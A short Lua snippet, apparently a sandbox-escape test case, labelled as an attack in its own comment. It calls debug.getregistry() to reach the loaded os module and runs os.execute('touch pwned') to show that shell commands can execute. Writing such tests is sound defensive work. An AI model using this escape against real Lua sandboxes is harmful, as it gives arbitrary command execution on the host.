-- Attack: reach the registry, where the real globals table and loaded
-- modules live, and take os.execute from there.
local reg = debug.getregistry()
reg._LOADED.os.execute("touch pwned")
